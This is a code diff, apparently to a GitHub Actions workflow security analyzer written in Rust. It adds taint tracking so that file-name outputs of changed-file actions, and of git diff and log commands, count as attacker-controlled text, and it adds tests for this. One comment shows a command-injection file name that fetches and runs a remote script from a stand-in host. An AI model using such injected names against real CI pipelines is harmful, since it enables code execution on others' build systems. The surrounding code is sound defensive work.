@@ -49,10 +49,16 @@ pub struct Origin {
 impl Origin {
     /// `github.event.issue.title` or `github.event.issue.title (via env.TITLE)`.
     pub fn describe(&self) -> String {
-        if self.via.is_empty() {
-            format!("`{}`", self.source)
+        // A context path is code (`github.head_ref`); a description is prose.
+        let source = if self.source.contains(' ') {
+            self.source.clone()
         } else {
-            format!("`{}` (via `{}`)", self.source, self.via.join("` ← `"))
+            format!("`{}`", self.source)
+        };
+        if self.via.is_empty() {
+            source
+        } else {
+            format!("{source} (via `{}`)", self.via.join("` ← `"))
         }
     }
 }
@@ -181,6 +187,57 @@ const FIXED_FORMAT_OUTPUTS: &[(&str, &[&str])] = &[
     ),
     ("actions/create-github-app-token", &["installation-id"]),
 ];
+
+/// Actions whose outputs list the files a change touched: the names are chosen by
+/// whoever wrote the commits (a fork's author on a pull request), and a file can be
+/// named `$(curl evil.sh|sh).md`. Every output whose name mentions `files` (the
+/// lists; counts and booleans such as `any_changed` are left out) is outsider text.
+const CHANGED_FILE_ACTIONS: &[&str] = &[
+    "tj-actions/changed-files",
+    "step-security/changed-files",
+    "dorny/paths-filter",
+    "jitterbit/get-changed-files",
+    "ana06/get-changed-files",
+    "trilom/file-changes-action",
+    "lots0logs/gh-action-get-changed-files",
+    "masesgroup/retrieve-changed-files",
+];
+
+/// Commands whose output is text the author of the commits chose: file names and
+/// commit messages or author names. A step output computed by a script that runs one
+/// of them carries that text.
+const OUTSIDER_TEXT_COMMANDS: &[&str] = &[
+    "git diff --name-only",
+    "git diff --name-status",
+    "git show --name-only",
+    "git log --format=%s",
+    "git log --format=%B",
+    "git log -1 --pretty=%B",
+    "git log -1 --format=%B",
+    "git log -1 --pretty=%s",
+    "git log -1 --format=%s",
+];
+
+/// The first command of [`OUTSIDER_TEXT_COMMANDS`] `script` runs (spacing folded).
+fn prints_outsider_text(script: &str) -> Option<&'static str> {
+    let unquoted = script.replace(['"', '\''], "");
+    let folded = unquoted.split_whitespace().collect::<Vec<_>>().join(" ");
+    OUTSIDER_TEXT_COMMANDS
+        .iter()
+        .find(|c| folded.contains(*c))
+        .copied()
+}
+
+/// Whether `name` of a changed-file action is a list of file names.
+fn is_file_list_output(action: &str, name: &str) -> bool {
+    let action = action.to_ascii_lowercase();
+    let name = name.to_ascii_lowercase();
+    CHANGED_FILE_ACTIONS.contains(&action.as_str())
+        && name.contains("files")
+        && !name.contains("count")
+        && !name.starts_with("any_")
+        && !name.starts_with("only_")
+}
 
 /// The values a `run:` script writes to output `name` with `echo "name=…" >>
 /// "$GITHUB_OUTPUT"`, when every write is literal text and `${{ … }}` expressions;
@@ -482,13 +539,33 @@ impl<'a> Scope<'a> {
         })?;
         if let Some(uses) = producer.get("uses").and_then(|u| u.as_str()) {
             let action = wf::action_name(uses);
+            if is_file_list_output(&action, name) {
+                return Some(vec![Origin {
+                    taint: Taint::Outsider,
+                    source: format!("the file names `{action}` lists"),
+                    via: Vec::new(),
+                }]);
+            }
             let fixed = FIXED_FORMAT_OUTPUTS
                 .iter()
                 .any(|(a, outs)| *a == action && outs.iter().any(|o| o.eq_ignore_ascii_case(name)));
             return fixed.then(Vec::new);
         }
         let script = producer.get("run").and_then(|r| r.as_str())?;
-        let values = output_writes(script, name)?;
+        let Some(values) = output_writes(script, name) else {
+            let written = script
+                .to_ascii_lowercase()
+                .contains(&format!("{}=", name.to_ascii_lowercase()));
+            return prints_outsider_text(script)
+                .filter(|_| written)
+                .map(|command| {
+                    vec![Origin {
+                        taint: Taint::Outsider,
+                        source: format!("the text `{command}` prints"),
+                        via: Vec::new(),
+                    }]
+                });
+        };
         let outer = Scope {
             step: Some(producer),
             ..self.clone()
@@ -788,6 +865,38 @@ mod tests {
             Some(Taint::Outsider)
         );
         assert_eq!(weak.origin_of("github.event.pull_request.number", 0), None);
+    }
+
+    #[test]
+    fn changed_file_lists_are_outsider_text() {
+        let r = root(
+            "on: pull_request\njobs:\n  a:\n    steps:\n      - id: changed\n        uses: tj-actions/changed-files@v46\n      - id: filter\n        uses: dorny/paths-filter@v3\n      - run: echo\n",
+        );
+        let job = &wf::jobs(&r)[0].value;
+        let weak = Scope::workflow(&r)
+            .with_weak_origins()
+            .job(job)
+            .step(wf::steps(job)[2]);
+        for p in [
+            "steps.changed.outputs.all_changed_files",
+            "steps.changed.outputs.modified_files",
+            "steps.filter.outputs.docs_files",
+        ] {
+            let o = weak.origin_of(p, 0);
+            assert_eq!(o.as_ref().map(|o| o.taint), Some(Taint::Outsider), "{p}");
+            assert_eq!(o.map(|o| o.via), Some(vec![p.to_string()]), "{p}");
+        }
+        for p in [
+            "steps.changed.outputs.any_changed",
+            "steps.changed.outputs.all_changed_files_count",
+            "steps.filter.outputs.docs",
+        ] {
+            assert_eq!(
+                weak.origin_of(p, 0).map(|o| o.taint),
+                Some(Taint::Untraced),
+                "{p}"
+            );
+        }
     }
 
     #[test]
